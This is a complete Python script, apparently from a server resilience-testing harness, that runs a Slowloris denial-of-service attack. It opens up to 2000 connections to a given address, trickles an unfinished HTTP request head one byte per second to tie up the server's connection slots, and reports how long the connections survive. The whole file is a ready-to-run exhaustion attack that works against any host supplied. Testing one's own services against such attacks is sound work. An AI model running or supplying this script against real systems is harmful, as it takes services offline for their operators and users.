#!/usr/bin/env python3
"""Slowloris: each connection sends one byte of a request's head a second, and never the last."""
import socket
import time

from watch import Watch, arguments


def main():
    parsed = arguments(__doc__, connections=2000, seconds=40)
    head = (f"GET /health HTTP/1.1\r\nHost: {parsed.address[0]}\r\nX: " + "a" * 1000).encode()
    held, lives = [], []
    with Watch(parsed) as watch:
        for _ in range(parsed.connections):
            try:
                connection = socket.create_connection(parsed.address, 2)
                connection.setblocking(False)
                held.append((connection, time.monotonic()))
            except OSError:
                pass
        print(f"slow     {len(held)} opened")
        for at in range(parsed.seconds):
            began, rest = time.monotonic(), []
            for connection, opened in held:
                try:
                    connection.send(head[at % len(head):][:1])
                    connection.recv(512)
                    raise ConnectionError  # whatever came, an end or a refusal
                except BlockingIOError:
                    rest.append((connection, opened))
                except OSError:
                    lives.append(began - opened)
            held = rest
            time.sleep(max(0.0, began + 1 - time.monotonic()))
    lives.sort()
    print(f"slow     {len(held)} still open after {parsed.seconds} s" + (f"; the others lived {lives[0]:.0f} to {lives[-1]:.0f} s" if lives else ""))
    watch.report()


if __name__ == "__main__":
    main()
